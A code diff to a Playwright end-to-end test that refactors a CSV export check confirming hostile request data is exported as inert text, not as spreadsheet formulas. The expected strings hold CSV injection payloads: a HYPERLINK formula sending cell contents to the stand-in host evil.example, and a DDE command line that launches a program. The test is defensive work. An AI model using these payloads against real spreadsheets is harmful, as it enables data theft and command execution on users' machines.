@@ -1,6 +1,7 @@
 import { readFile } from 'node:fs/promises'
 import { expect, type Page } from '@playwright/test'
 import { expectAccessible } from './accessibility.ts'
+import { exportAs } from './export-as.ts'
 import { startLossyProxy } from './lossy-proxy.ts'
 import { announced, openAccept, writesOf } from './request-steps.ts'
 import { signIn } from './sign-in.ts'
@@ -155,10 +156,7 @@ test.describe('a hostile request', () => {
   test('becomes text in a file, never a formula', async ({ signedInPage: page }) => {
     await page.goto('/requests')
     await expect(page.getByRole('checkbox', { name: /^Select / }).nth(5)).toBeVisible()
-    const [download] = await Promise.all([
-      page.waitForEvent('download'),
-      page.getByRole('button', { name: 'Export CSV' }).click(),
-    ])
+    const [download] = await Promise.all([page.waitForEvent('download'), exportAs(page)])
     const text = await readFile(await download.path(), 'utf8')
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`)
     expect(text).toContain(`'=cmd|' /C calc'!A0`)
